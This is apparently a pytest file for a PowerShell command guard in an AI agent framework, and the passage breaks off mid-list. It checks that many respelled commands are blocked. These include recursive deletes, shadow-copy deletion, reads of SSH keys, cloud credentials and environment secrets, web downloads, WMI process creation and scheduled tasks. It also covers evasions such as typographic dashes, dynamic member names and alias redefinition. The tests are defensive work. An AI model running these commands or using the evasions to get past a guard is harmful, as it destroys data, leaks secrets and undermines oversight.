"""PowerShell respellings: constructs and rewrites that PowerShell runs the same way as a blocked command
(native-style words, typographic quotes and dashes, PowerShell 7 operators, members and .NET objects, values
in variables, splats, loops and script blocks, expandable strings, glued redirections, aliases, COM and WMI)
must still block; the ordinary constructs beside them stay allowed."""

from __future__ import annotations

from functools import partial

import pytest
from conftest import every_case, guard_allows, guard_blocks, guard_decision

from glmagent.guard import Policy
from glmagent.guard._normalise import ps_ascii
from glmagent.guard._parse_powershell import parse, repair

check = partial(guard_decision, "powershell")
assert_blocked = partial(guard_blocks, "powershell")
assert_allowed = partial(guard_allows, "powershell")
assert_allowed_clean = partial(guard_allows, "powershell", clean_parse=True)


# -- native-style words the grammar rejects: `--`, `--opt=val`, `-run=X`, `10KB` --
NATIVE_WORDS_ALLOWED = [
    "git log --oneline -- src",
    "git diff --stat -- .",
    "git checkout -- file.txt",
    "pytest -k foo -- tests",
    "npm test -- --watch=false",
    "npm run build -- --prod",
    "git log --format=%H -n 5",
    "git log --pretty=format:'%h %s' -n 5",
    'git log --pretty=format:"%h %s"',
    "python -m pytest --maxfail=1 -q",
    "ruff check --select=E501 .",
    "python -m pip list --format=json",
    "grep -rn --include=*.py foo .",
    "git log -n 5 --since=2.weeks",
    "cargo test -- --nocapture",
    "dotnet test --filter=Name~Foo",
    "go test ./... -run=TestX",
    "mvn -Dtest=Foo test",
    "git log --author=me@x.com",
    "pytest --cov=src --cov-report=term-missing",
    "Get-ChildItem | Where-Object { $_.Length -gt 10KB }",
    "Get-ChildItem | Where-Object Length -gt 1MB",
    # a native option holding plain variables: PowerShell expands them as in a double-quoted string
    "vendor/bin/paratest --processes=$env:PARALLEL_PROCESSES --testsuite=chunk_$env:CHUNK_NUMBER",
    "cmake -DCMAKE_BUILD_TYPE=$config -S . -B build",
    "dotnet test --logger=trx --results-directory=$out",
    # a native flag glued to a path: PowerShell passes it as one word
    "clang.exe -g -O2 -Iexternal\\bpftool -Itests\\sample\\ext\\inc -c x.c -o x64\\Debug\\x.o",
    "gcc -L/opt/lib -lfoo x.c",
    # a short native flag that starts with a digit: passed as written
    "R.exe CMD check --no-manual $(ls.exe -1t data.table_*.tar.gz | head.exe -n 1)",
    "zip.exe -9r dist/site.zip site",
    # a dash word holding a `.`: PowerShell breaks it in two there (`-I` `.`), and passes both on
    "gcc -I. -o hello hello.c",
    "cmake -H. -Bbuild",
    "gcc -I./include -c x.c",
    "mvn -Dmaven.test.skip package",
]


def test_native_style_words_parse_and_stay_allowed() -> None:
    every_case(NATIVE_WORDS_ALLOWED, assert_allowed_clean)


NATIVE_WORDS_BLOCKED = [
    ("rm --recursive --force=1 x", "destructive.recursive-delete"),
    ("git clean -fdx --", "destructive.git-clean"),
    ("git clean -f -- .", "destructive.git-clean"),
    ("Remove-Item -Recurse x --", "destructive.recursive-delete"),
    ("Remove-Item x -- -Recurse", "destructive.recursive-delete"),
    ("Remove-Item -r x --opt=val", "destructive.recursive-delete"),
    ("Remove-Item -Recurse:'1' -Force x --", "destructive.recursive-delete"),
    ("Remove-Item -Force x -Recurse:'1' --", "destructive.recursive-delete"),
    ("Remove-Item -Recurse x 1MB", "destructive.recursive-delete"),
    ("Remove-Item x -Recurse 10KB", "destructive.recursive-delete"),
    ("gci -r | Remove-Item --", "destructive.recursive-delete"),
    ("& 'Remove-Item' -Recurse x --", "destructive.recursive-delete"),
    ("curl --url=http://x", "network"),
    ("git push --force=true", "network"),
    ("git fetch --depth=1", "network"),
    ("pip install --index-url=http://x pkg", "network"),
    ("rsync -a --delete=yes src/ dst/", "destructive"),
    ("cmd /c rd /s /q x --", "destructive.recursive-delete"),
    ('powershell -c "Remove-Item -r x" --', "destructive.recursive-delete"),
    ("python -c \"import shutil; shutil.rmtree('x')\" --x=1", "destructive"),
    ("npm test -- --env=$env:SECRET", "env"),
    ('Write-Output "$env:SECRET" --x=1', "env"),
    ("Invoke-Expression --x=$(Remove-Item -r x)", "destructive.recursive-delete"),
    ("Get-Item x --x=(Remove-Item -Recurse y)", "destructive.recursive-delete"),
    ("cat ~/.aws/credentials --x=1", "env"),
    ("rm --recursive=$x y", "destructive.recursive-delete"),
    ("curl --url=$u", "network"),
    ("npm test -- --token=$env:NPM_TOKEN", "env"),
    ("tool --out=$HOME/x", "containment.write-outside-project"),
    ("tool --x=$(Remove-Item -r y)", "destructive.recursive-delete"),
    ("Remove-Item -Recurse x -Iinc\\x", "destructive.recursive-delete"),
    ("cl -Isrc\\include -c x.c; Remove-Item -Recurse C:\\src", "destructive.recursive-delete"),
    # `-Recurse.` is the switch and then `.`, as PowerShell breaks the word
    ("Remove-Item -Recurse. -Force", "destructive.recursive-delete"),
    ("Remove-Item -Recurse.\\src", "destructive.recursive-delete"),
    ("gcc -I. x.c; Remove-Item -Recurse C:\\src", "destructive.recursive-delete"),
]


def test_native_style_words_never_hide_a_dangerous_command() -> None:
    every_case(NATIVE_WORDS_BLOCKED, assert_blocked)


@pytest.mark.parametrize(
    "source",
    ["[IO.File]::'Delete'('x') --", "$d.'Delete'() --", "Get-Item -Name:'x' --", "x --out=$(gci)"],
)
def test_repair_never_glues_members_parameters_or_expansions_into_strings(source: str) -> None:
    fixed = repair(source) or source
    for kept in ("::'Delete'", ".'Delete'", "-Name:'x'", " --out=$(gci)"):
        if kept in source:
            assert kept in fixed


def test_a_native_option_of_plain_variables_is_double_quoted_so_it_still_expands() -> None:
    assert repair("x --out=$dir --n=$env:N") == 'x "--out=$dir" "--n=$env:N"'
    for other in ("x --out=$dir'y'", "x --out=$(gci)", "x --out=@a", "x --out=${a}b"):
        assert '"--out' not in (repair(other) or other)  # quotes, subexpressions, splats: left alone


# -- typographic characters: PowerShell reads them as ASCII quotes, dashes and spaces --
def test_ps_ascii_maps_only_non_ascii_text() -> None:
    text = "rm -rf x"
    assert ps_ascii(text) is text
    assert (
        ps_ascii("Remove-Item \u2013Recurse \u201cx\u201d\u3000\u2018y\u2019")
        == "Remove-Item -Recurse \"x\" 'y'"
    )


TYPOGRAPHY_BLOCKED = [
    ("Remove-Item \u2013Recurse \u2013Force x", "destructive.recursive-delete"),
    ("Remove-Item \u2014Recurse \u2014Force x", "destructive.recursive-delete"),
    ("Remove-Item \u2015Recurse x", "destructive.recursive-delete"),
    ("Remove-Item\u00a0-Recurse\u00a0-Force\u00a0x", "destructive.recursive-delete"),
    ("Remove-Item\u3000-Recurse\u3000x", "destructive.recursive-delete"),
    ("Remove-Item\u2003-Recurse x", "destructive.recursive-delete"),
    ("\u2018Remove-Item\u2019 -Recurse -Force x", "parse.error"),
    # a string glued to a word and never closed is PowerShell's parse error: nothing to respell
    ('C:\\Windows\\System32\\cmd.exe" /c mkdir C:\\x & curl https://x.example/p -o p.dll', "parse.error"),
    ("& \u2018Remove-Item\u2019 -Recurse -Force x", "destructive.recursive-delete"),
    ("& \u201cRemove-Item\u201d -Recurse -Force x", "destructive.recursive-delete"),
    ("Remove-Item -Recurse -Force \u2018x\u2019", "destructive.recursive-delete"),
    ("rm \u2013r \u2013fo x", "destructive.recursive-delete"),
    ("Write-Output \u201c$env:SECRET\u201d", "env.powershell-environment"),
    ("Write-Output \u201c${env:SECRET}\u201d", "env.powershell-environment"),
    ("Invoke-WebRequest \u2013Uri http://x", "network"),
    ("iex \u2018Remove-Item \u2013Recurse x\u2019", "destructive.recursive-delete"),
]


def test_typographic_quotes_dashes_and_spaces_read_as_powershell_reads_them() -> None:
    every_case(TYPOGRAPHY_BLOCKED, assert_blocked)


@pytest.mark.parametrize(
    "command",
    [
        "Write-Output \u2018hello\u2019",
        "Write-Host \u201cStep 1 \u2013 build\u201d",
        "Get-ChildItem \u2013Recurse -Filter *.py",
        "Write-Output \u2018Use $env:PATH carefully\u2019",
    ],
)
def test_typographic_harmless_commands_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- -WhatIf spares a command only when it is surely on --
def test_whatif_that_may_be_off_does_not_spare_a_delete() -> None:
    every_case(
        [
            "Remove-Item -Recurse -Force x -WhatIf:$false",
            "Remove-Item -Recurse -Force x -WhatIf:$x",
            "Remove-Item -Recurse -Force x -WhatIf:0",
            "Remove-Item -Recurse -Force x -WhatIf:$null",
            "Remove-Item -Recurse -Force x -WhatIf:([bool]0)",
            "Remove-Item -Recurse -Force x -WhatIf:''",
            "Remove-Item -Recurse -Force -- x -WhatIf",
            "Remove-Item -Recurse -Force x -wh:$false",
            "gci -r | Remove-Item -WhatIf:$false",
            "Remove-Item -Recurse x @p -WhatIf:$false",
        ],
        lambda command: assert_blocked(command, "destructive"),
    )


@pytest.mark.parametrize(
    "command",
    [
        "Remove-Item -Recurse -Force x -WhatIf",
        "Remove-Item -Recurse -Force x -WhatIf:$true",
        "Remove-Item -Recurse -Force x -wh",
        "gci -r | Remove-Item -WhatIf",
    ],
)
def test_whatif_that_is_on_is_a_dry_run(command: str) -> None:
    assert_allowed_clean(command)


def test_digit_flags_are_quoted_and_negative_numbers_kept() -> None:
    assert repair("ls.exe -1t x") == "ls.exe '-1t' x"
    assert repair("x -1kb, 2") == "x -1kb ,2"  # -1024: PowerShell computes it, unquoted
    assert check("rm.exe -9rf C:\\Users").rule_id is not None  # quoted, the word is still read


def test_parse_of_repaired_text_is_clean() -> None:
    fixed = repair("git log --oneline -- src")
    assert fixed == "git log --oneline '--' src"
    assert not parse(fixed.encode()).root_node.has_error


# Grammar gaps the repair respells: a list of strings before a list of bare words, and a `#` after an
# escape in a double-quoted string (the grammar reads it as a comment).
GRAMMAR_GAPS_ALLOWED = [
    "Write-Color -Text 'Red ', 'Green ', 'Yellow ' -Color Red, Green, Yellow",
    "Write-Host 'a ', 'b ' -ForegroundColor Red, Green",
    "$t = (Get-Content ./CHANGELOG.md) -replace '## x', \"## x`n`n### Fixed\"",
    "$z = 'a', \"`n# F\"",
    'Write-Output "a `"b`" # c"',
]
GRAMMAR_GAPS_BLOCKED = [
    ('iex "`nRemove-Item -Recurse C:\\x # y"', "destructive.recursive-delete"),
    ("$s = 'x', \"`n# $(Remove-Item -Recurse C:\\x)\"", "destructive.recursive-delete"),
    ("Write-Host 'a ', 'b ' -Object (iwr https://x.io/a)", "network.http-client"),
]


def test_grammar_gaps_are_respelled_and_stay_allowed() -> None:
    every_case(GRAMMAR_GAPS_ALLOWED, assert_allowed_clean)


@pytest.mark.parametrize(("command", "rule"), GRAMMAR_GAPS_BLOCKED)
def test_grammar_gaps_respelled_are_still_checked(command: str, rule: str) -> None:
    assert check(command).rule_id == rule


def test_escaped_hash_keeps_the_string_and_a_comma_between_strings_stays() -> None:
    assert repair('$z = "`n# F"') == '$z = "`n`# F"'
    assert repair('$z = "# F", b') is None or "`#" not in repair('$z = "# F", b')  # no escape before it
    assert repair("x 'a ', 'b ' -c R, G") == "x 'a ', 'b ' -c R ,G"
    assert repair('x -Properties "ms-mcs-AdmPwd",name') == 'x -Properties "ms-mcs-AdmPwd" ,name'


# -- members of objects whose type the policy does not know --
OBJECT_MEMBERS_BLOCKED = [
    ("$d = Get-Item x; $d.Delete()", "destructive.object-delete"),
    ("(Get-Item x).Delete()", "destructive.object-delete"),
    ("(Get-Item x).Delete($true)", "destructive.object-delete"),
    ("(New-Object IO.DirectoryInfo x).Delete($true)", "destructive.object-delete"),
    ("[IO.DirectoryInfo]::new('x').Delete($true)", "destructive.object-delete"),
    ("([IO.DirectoryInfo]'x').Delete($true)", "destructive.object-delete"),
    ("[IO.FileInfo]::new('x').Delete()", "destructive.object-delete"),
    ("(New-Object System.IO.FileInfo 'x').Delete()", "destructive.object-delete"),
    ("$fi = New-Object IO.FileInfo x; $fi.Delete()", "destructive.object-delete"),
    ("[IO.DirectoryInfo]::Delete", "destructive.object-delete"),
    ("(Get-ChildItem x).Delete()", "destructive.object-delete"),
    ("$d[0].Delete()", "destructive.object-delete"),
    ("$d.Parent.Delete($true)", "destructive.object-delete"),
    ("$m = $d.Delete; $m.Invoke()", "destructive.object-delete"),
    ("Get-ChildItem -r | % { $_.Delete() }", "destructive.object-delete"),
    ("Get-ChildItem -r | ForEach-Object { $_.Delete() }", "destructive.object-delete"),
    ("gci -r | % Delete", "destructive.object-delete"),
    ("gci -r | ForEach-Object -MemberName Delete", "destructive.object-delete"),
    ("gci -r | ForEach-Object -MemberName:Delete", "destructive.object-delete"),
    ("gci -r | ForEach-Object -MemberName ('Del' + 'ete')", "destructive.object-delete"),
    ("gci | Microsoft.PowerShell.Core\\ForEach-Object Delete", "destructive.object-delete"),
    ("(Get-Item HKCU:\\Software\\X).DeleteSubKeyTree('y')", "destructive.object-delete"),
    ("[IO.Directory]::Delete('x', $true)", "destructive.payload-delete"),
    ("[System.Net.WebClient]::new().DownloadString('x')", "network.payload"),
    ("$wc.DownloadString('http://x')", "network.object-transfer"),
    ("$c.UploadFile('http://x', 'a.zip')", "network.object-transfer"),
    ("$ie.Navigate($hostname)", "network.object-transfer"),  # a browser sent where a variable says
    ("$psi.EnvironmentVariables['TOKEN']", "env.object-environment"),
    ("$d.PSObject.Methods['Delete'].Invoke()", "unverifiable.object-invoke"),
    ("$t.GetMethod('Delete').Invoke($null, @('x'))", "unverifiable.object-invoke"),
]


def test_members_of_unknown_objects_reach_the_member_rules() -> None:
    every_case(OBJECT_MEMBERS_BLOCKED, assert_blocked)


DYNAMIC_MEMBERS = [
    "$d.'Delete'()",
    '$d."Delete"()',
    "$d.$m()",
    "$d.($m)()",
    "[IO.File]::'Delete'('x')",
    "[IO.File]::\"Delete\"('x')",
    "$t::$m('x')",
    "[IO.File]::($n)('x')",
    "[IO.File]::$n('x')",
    "$t = [IO.File]; $t::Delete('x')",
    "gci -r | % $m",
]


def test_members_or_types_named_at_run_time_block_as_dynamic() -> None:
    every_case(DYNAMIC_MEMBERS, lambda command: assert_blocked(command, "dynamic.command-name"))


def test_ordinary_member_use_stays_allowed() -> None:
    every_case(
        [
            "$h = @{a=1}; $h.Remove('a')",
            "$list = [System.Collections.ArrayList]::new(); $list.Add(1); $list.Clear()",
            "'abc'.Replace('a','b')",
            "(Get-Date).ToString('yyyy')",
            "[IO.Path]::Combine('a','b')",
            "[IO.File]::ReadAllText('README.md')",
            "(Get-Item README.md).Length",
            "Get-ChildItem | ForEach-Object Name",
            "Get-ChildItem | % { $_.FullName }",
            "$h = @{}; $k = 'a'; $h.$k",
            "$json = Get-Content x.json -Raw | ConvertFrom-Json; $json.'some-key'",
            "$PSVersionTable.PSVersion",
            "[IO.FileInfo]::new('x').Exists",
        ],
        assert_allowed_clean,
    )


# -- recursive listings kept in a variable and deleted later --
def test_recursive_listing_in_a_variable_then_deleted_blocks() -> None:
    every_case(
        [
            "$f = Get-ChildItem -Recurse; $f | Remove-Item",
            "$f = Get-ChildItem -Recurse; Remove-Item $f",
            "$f = Get-ChildItem -Recurse; Remove-Item -Path $f",
            "$f = Get-ChildItem -Recurse; Remove-Item $f.FullName",
            "$f = gci -r; $f | ri",
            "$f = gci -r | Where-Object Length -gt 0; $f | Remove-Item",
            "$f = @(Get-ChildItem -Recurse -File); Remove-Item $f",
            "$f = Get-ChildItem -Recurse; $g = $f; $g | Remove-Item",
            "$f = Get-ChildItem -Recurse; foreach ($i in $f) { Remove-Item $i }",
            "$f = Get-ChildItem -Recurse; $f | ForEach-Object { Remove-Item $_ }",
        ],
        lambda command: assert_blocked(command, "destructive.recursive-delete"),
    )
    # a loop straight over the listing reads the item as the glob it matches (`**/*`): a bulk delete
    assert_blocked(
        "foreach ($i in Get-ChildItem -Recurse) { Remove-Item $i.FullName }", "destructive.forced-delete"
    )


@pytest.mark.parametrize(
    "command",
    [
        "$f = Get-ChildItem -Recurse; $f | Select-String TODO",
        "$f = Get-ChildItem *.tmp; $f | Remove-Item",
        "$f = Get-ChildItem -Recurse; $f = 'x.txt'; Remove-Item $f",
        "$files = Get-ChildItem -Recurse; $files.Count",
    ],
)
def test_variables_without_a_recursive_listing_to_delete_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- the environment: variables, strings, the env: drive --
ENV_BLOCKED = [
    ("${env:SECRET}", "env.powershell-environment"),
    ("$env:SECRET", "env.powershell-environment"),
    ("${ENV:Path}", "env.powershell-environment"),
    ('Write-Output "$env:SECRET"', "env.powershell-environment"),
    ('Write-Output "${env:SECRET}"', "env.powershell-environment"),
    ('Write-Output "x $($env:SECRET)"', "env.powershell-environment"),
    ('Write-Output @"\nkey: $env:SECRET\n"@', "env.powershell-environment"),
    ("Get-Content env:SECRET", "env.powershell-environment"),
    ("gc env:SECRET", "env.powershell-environment"),
    ("gci env:", "env.environment-drive"),
    ("ls Env:\\", "env.environment-drive"),
    ("dir env:", "env.environment-drive"),
    ("Get-Item -Path Env:*", "env.environment-drive"),
    ("Get-Content -Path:env:SECRET", "env.powershell-environment"),
    ("Get-ChildItem -Path:Env:", "env.environment-drive"),
    ("Get-Content 'env:SECRET'", "env.powershell-environment"),
    ("Get-ChildItem Microsoft.PowerShell.Core\\Environment::", "env.environment-drive"),
    ("[Environment]::GetEnvironmentVariables()", "env.powershell-environment"),
]


def test_environment_reads_block() -> None:
    every_case(ENV_BLOCKED, assert_blocked)


@pytest.mark.parametrize(
    "command",
    [
        "Select-String -Pattern 'env:' file.txt",
        "Select-String 'env:' file.txt",
        "Write-Output 'Use $env:PATH carefully'",
        "Write-Output @'\nUse $env:PATH carefully\n'@",
        "Get-ChildItem .\\env",
        "Get-Content .\\env.txt",
        "$env:CI = '1'",
        "$env:PYTHONPATH = 'src'; pytest",
    ],
)
def test_environment_look_alikes_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- system objects, scheduled code, process objects, stored credentials --
SYSTEM_BLOCKED = [
    ("Clear-Item HKCU:\\Software\\X", "destructive.overwrite-file"),
    ("cli HKCU:\\Software\\X", "destructive"),
    ("Clear-ItemProperty HKCU:\\Software\\X -Name y", "destructive.overwrite-file"),
    ("Get-WmiObject Win32_ShadowCopy | Remove-WmiObject", "destructive"),
    ("Get-WmiObject Win32_ShadowCopy | rwmi", "destructive"),
    ("Get-CimInstance Win32_ShadowCopy | Remove-CimInstance", "destructive"),
    ("Get-CimInstance Win32_ShadowCopy | rcim", "destructive.wmi-remove"),
    ("icim Win32_Process Create", "unverifiable.wmi-method"),
    ("Set-Service x -StartupType Automatic", "destructive.machine-state"),
    ("vssadmin delete shadows /all /quiet", "destructive"),
    ("vssadmin.exe Delete Shadows /All", "destructive"),
    ("cmd /c wmic shadowcopy delete", "destructive"),
    ("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc'", "unverifiable.wmi-method"),
    ("iwmi Win32_Process Create 'calc'", "unverifiable.wmi-method"),
    ("Invoke-CimMethod Win32_Process Create @{CommandLine='calc'}", "unverifiable.wmi-method"),
    ("([wmiclass]'Win32_Process').Create('calc')", "unverifiable.wmi-method"),
    ("wmic process call create calc", "unverifiable.wmi-method"),
    ("Register-ScheduledTask -TaskName x -Action $a", "unverifiable.scheduled-code"),
    ("schtasks /create /tn x /tr calc /sc once /st 00:00", "unverifiable"),
    ("schtasks.exe /Create /TN x /TR calc /SC ONCE", "unverifiable"),
    ("New-Service -Name x -BinaryPathName C:\\x.exe", "destructive.machine-state"),
    (
        "Register-ObjectEvent -InputObject $t -EventName Elapsed -Action { Get-Date }",
        "unverifiable.scheduled-code",
    ),
    ("r 5", "unverifiable.scheduled-code"),
    ("Invoke-History -Id 5", "unverifiable.scheduled-code"),
    ("$p = New-Object Diagnostics.Process", "unverifiable.process-object"),
    ("[System.Diagnostics.Process]::new()", "unverifiable.process-object"),
    ("New-Object -TypeName System.Diagnostics.ProcessStartInfo", "unverifiable.process-object"),
    ("[Diagnostics.Process]::Start('cmd')", "unverifiable.payload-process"),
    ("cmdkey /list", "env"),
    ("[Windows.Security.Credentials.PasswordVault]::new().RetrieveAll()", "env"),
    ("New-Object Net.WebClient", "network"),
    ("(New-Object Net.WebClient).DownloadString('http://x')", "network"),
]


def test_system_objects_and_scheduled_code_block() -> None:
    every_case(SYSTEM_BLOCKED, assert_blocked)


def test_system_look_alikes_stay_allowed() -> None:
    every_case(
        [
            "Get-CimInstance Win32_OperatingSystem",
            "wmic os get caption",
            "Get-History",
            "Get-Process",
            "[Diagnostics.Stopwatch]::StartNew()",
            "$sw = New-Object Diagnostics.Stopwatch; $sw.Start()",
            "New-Object System.Text.StringBuilder",
            "Clear-Host",
            "Clear-Variable x",
        ],
        assert_allowed_clean,
    )


# -- PowerShell 7 operators the grammar lacks: `??`, `??=`, `?.`, `?[`, `? :` --
PS7_BLOCKED = [
    ("rm -rf ?? x; $a ?? $b", "destructive.recursive-delete"),
    ("rm -rf ? x; $a ?? $b", "destructive.recursive-delete"),
    ("Remove-Item -Recurse ?; $a ?? $b", "destructive.recursive-delete"),
    ("$a ?? (Remove-Item -Recurse x)", "destructive.recursive-delete"),
    ("$a ??= (Remove-Item -Recurse x)", "destructive.recursive-delete"),
    ("$a ? (ri x -r) : 1", "destructive.recursive-delete"),
    ("$a ? 1 : (ri x -r)", "destructive.recursive-delete"),
    ("$f = $null ?? (gci -r); $f | ri", "destructive.recursive-delete"),
    ("$f = @() + (gci -r); $f | Remove-Item", "destructive.recursive-delete"),
    ("$x?.Delete()", "destructive.object-delete"),
    ("${x}?.Delete()", "destructive.object-delete"),
    ("(Get-Item x)?.Delete()", "destructive.object-delete"),
    ("$d?[0].Delete()", "destructive.object-delete"),
    ("$c = $true ? 'Remove-Item' : 'x'; & $c -r y", "dynamic.command-name"),
    ("$v = $null ?? $env:SECRET", "env.powershell-environment"),
    ("$a??=$env:SECRET", "env.powershell-environment"),
    ("$x = $env:API_KEY ? 1 : 2", "env.powershell-environment"),
    ("Get-Content ~/.ssh/id_??a; $a ?? $b", "env.secret-files"),
]


def test_powershell_7_operators_are_read_not_misread() -> None:
    every_case(PS7_BLOCKED, assert_blocked)


@pytest.mark.parametrize(
    "command",
    [
        "$a = $b ?? 'x'",
        "$x = $null ?? 'default'",
        "$a ??= 1",
        "$a = $b ? 'y' : 'n'",
        "$n = $x?.Name",
        "$v = ${x}?[0]",
        "gci | ? Name -like '*.py'",
        "Get-ChildItem ??.txt",
    ],
)
def test_powershell_7_operators_in_harmless_code_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


ALL_BLOCKED = (
    NATIVE_WORDS_BLOCKED
    + TYPOGRAPHY_BLOCKED
    + OBJECT_MEMBERS_BLOCKED
    + ENV_BLOCKED
    + SYSTEM_BLOCKED
    + [(c, "dynamic.command-name") for c in DYNAMIC_MEMBERS]
)


def test_a_statement_that_needs_the_recovery_parser_hides_nothing() -> None:
    """A later statement the grammar rejects sends the whole line through `repair`: still blocked."""

    def check_one(command: str, expected: str) -> None:
        d = check(f"{command}; $zz ?? 1")
        assert not d.allowed, command
        if expected != "parse.error":
            assert d.category == check(command).category

    every_case(ALL_BLOCKED, check_one)


# -- sparing switches with values; arguments held in variables with known values --
@pytest.mark.parametrize(
    "command",
    [
        "Remove-Item -Recurse -Force x -WhatIf:0x0",
        'Remove-Item -Recurse -Force x -WhatIf:"$false"',
        "Remove-Item -Recurse -Force x -WhatIf:00",
        "Get-Process | Out-File ~\\x.txt -Append:$false",
        "Get-Process | Out-File ~\\x.txt -Append:$a",
    ],
)
def test_sparing_switch_that_may_be_off_spares_nothing(command: str) -> None:
    assert_blocked(command, "destructive")


@pytest.mark.parametrize(
    "command",
    [
        "Remove-Item -Recurse -Force x -WhatIf:2",
        "Get-Process | Tee-Object -Variable:procs",
        "Get-Process | Tee-Object -Variable procs",
        "Get-Process | Out-File x.txt -Append:$true",
    ],
)
def test_sparing_switch_that_is_given_spares(command: str) -> None:
    assert_allowed_clean(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("$d = 'env:'; gci $d", "env.environment-drive"),
        ("$d = 'env:SECRET'; Get-Content $d", "env.powershell-environment"),
        ("$p = 'env:'; Get-ChildItem -Path $p", "env.environment-drive"),
        ("$f = '-rf'; rm $f x", "destructive.recursive-delete"),
        ("$u = 'http://x'; curl $u", "network"),
        ("$k = '~/.ssh/id_rsa'; Get-Content $k", "env.secret-files"),
    ],
)
def test_arguments_in_variables_are_checked_with_their_values(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize(
    "command",
    ["$d = 'src'; gci $d", "$f = 'x.txt'; Remove-Item $f", "$r = '-Recurse'; Remove-Item $r"],
)
def test_harmless_values_in_variables_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- redefinitions that change what later commands do --
def test_redefining_commands_or_defaults_blocks() -> None:
    every_case(
        [
            "$PSDefaultParameterValues['Remove-Item:Recurse'] = $true; Remove-Item x",
            "$PSDefaultParameterValues.Add('Remove-Item:Recurse', $true); ri x",
            "$global:PSDefaultParameterValues = @{'*:Recurse' = $true}; ri x",
            "Set-Variable -Name PSDefaultParameterValues -Value @{'ri:Recurse'=$true}; ri x",
            "sv PSDefaultParameterValues @{'ri:Recurse'=$true}; ri x",
            "New-Item -Path function:\\Get-Date -Value 'Remove-Item -Recurse x'; Get-Date",
            "${function:Get-Date} = 'Remove-Item -Recurse x'; Get-Date",
            "Set-Item function:Get-Date 'Remove-Item -Recurse x'; Get-Date",
            "Set-Item -Path:function:Get-Date -Value 'ri -r x'; Get-Date",
            "New-Item alias:zz -Value Remove-Item; zz -Recurse x",
            "Set-Item alias:zz Remove-Item; zz -Recurse x",
            "${alias:zz} = 'Remove-Item'; zz -Recurse x",
            "Import-Alias aliases.csv; zz -Recurse x",
            # a default for what a command acts on, or one whose key or variable is only known at run time
            "$PSDefaultParameterValues['*:Force'] = $true",
            "$PSDefaultParameterValues['ri:Debug'] = 1; $PSDefaultParameterValues['ri:Recurse'] = 1",
            '$PSDefaultParameterValues["*:$p"] = $true',
            "$PSDefaultParameterValues['*:Confirm'] = $false",
        ],
        lambda command: assert_blocked(command, "unverifiable.session-redefinition"),
    )


@pytest.mark.parametrize(
    "command",
    [
        "$PSDefaultParameterValues['*:ErrorAction'] = 'Stop'",
        "$global:PSDefaultParameterValues['Out-File:Encoding'] = 'UTF8'",
        '$PSDefaultParameterValues["*:Verbose"] = $true',
    ],
)
def test_a_default_for_how_commands_report_or_encode_stays_allowed(command: str) -> None:
    # Errors, warnings, progress, verbosity and text encoding change how a command reports or writes its
    # text, never what it acts on.
    assert_allowed_clean(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("(Get-ChildItem -Recurse).FullName | Remove-Item", "destructive.recursive-delete"),
        ("Remove-Item (Get-ChildItem -Recurse).FullName", "destructive.recursive-delete"),
        ("Remove-Item -Path (gci -r | % FullName)", "destructive.recursive-delete"),
        ("$(Get-ChildItem -Recurse).FullName | ri", "destructive.recursive-delete"),
        # a pipeline in parentheses feeds on what its last stage prints, and what feeds that
        ("(gci -r | ? { $_.Length -gt 0 }) | Remove-Item", "destructive.recursive-delete"),
        ("(Get-Process | ? { $_.MainWindowTitle -ne '' }) | Stop-Process", "destructive.machine-state"),
    ],
)
def test_members_of_a_recursive_listing_feed_a_delete(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize(
    "command",
    [
        "(Get-ChildItem -Recurse).FullName | Select-String x",
        "(Get-ChildItem *.tmp).FullName | Remove-Item",
        "(Get-Content names.txt | Sort-Object) | Set-Content sorted.txt",
        "Set-Variable -Name count -Value 1",
        "Get-Alias ri",
    ],
)
def test_member_and_variable_look_alikes_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- network: shares, feeds, browsers, module galleries --
def test_windows_network_reaches_block() -> None:
    every_case(
        [
            "Copy-Item \\\\server\\share\\x .",
            "Get-Content \\\\server\\share\\x",
            "New-PSDrive -Name Z -PSProvider FileSystem -Root \\\\server\\share",
            "net use Z: \\\\server\\share",
            "nuget install x",
            "nuget.exe restore",
            "Start-Process http://x",
            "Start-Process msedge http://x",
            "start http://x",
            "saps -FilePath 'https://x'",
            "Invoke-Item http://x",
            "explorer https://x",
            "Find-Module x",
            "Register-PSRepository -Name x -SourceLocation http://x",
            "Publish-Module -Name x",
        ],
        lambda command: assert_blocked(command, "network"),
    )


@pytest.mark.parametrize(
    "command",
    [
        "Get-Item \\\\?\\C:\\temp\\x",
        "Start-Process notepad README.md",
        "nuget help",
        "net start",
        "Select-String -Pattern 'https://' -Path README.md",
        "Get-Module -ListAvailable",
        "[uri]'http://x'",
    ],
)
def test_windows_network_look_alikes_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- .NET calls that list a whole tree feed a delete like `Get-ChildItem -Recurse` --
@pytest.mark.parametrize(
    "command",
    [
        "[System.IO.Directory]::EnumerateFiles('.', '*', 'AllDirectories') | Remove-Item",
        "[IO.Directory]::GetFiles('.', '*', [IO.SearchOption]::AllDirectories) | % { Remove-Item $_ }",
        "$f = [IO.Directory]::GetFiles('.', '*', 'AllDirectories'); $f | ri",
        "Remove-Item ([IO.Directory]::GetFiles('.', '*', 'AllDirectories'))",
        "(Get-Item .).EnumerateFiles('*', 'AllDirectories') | Remove-Item",
        "foreach ($p in [IO.Directory]::GetFiles('.', '*', 'AllDirectories')) { Remove-Item $p }",
    ],
)
def test_dotnet_tree_listing_then_delete_blocks(command: str) -> None:
    assert_blocked(command, "destructive.recursive-delete")


@pytest.mark.parametrize(
    "command",
    [
        "[IO.Directory]::GetFiles('.', '*', 'AllDirectories') | Measure-Object",
        "[IO.Directory]::GetFiles('.') | Measure-Object",
    ],
)
def test_dotnet_listing_without_delete_or_recursion_stays_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- literal splats and string operators are read for what they pass --
def test_splats_and_string_operators_are_evaluated() -> None:
    every_case(
        [
            ("$p=@{Recurse=$true}; Remove-Item x @p", "destructive.recursive-delete"),
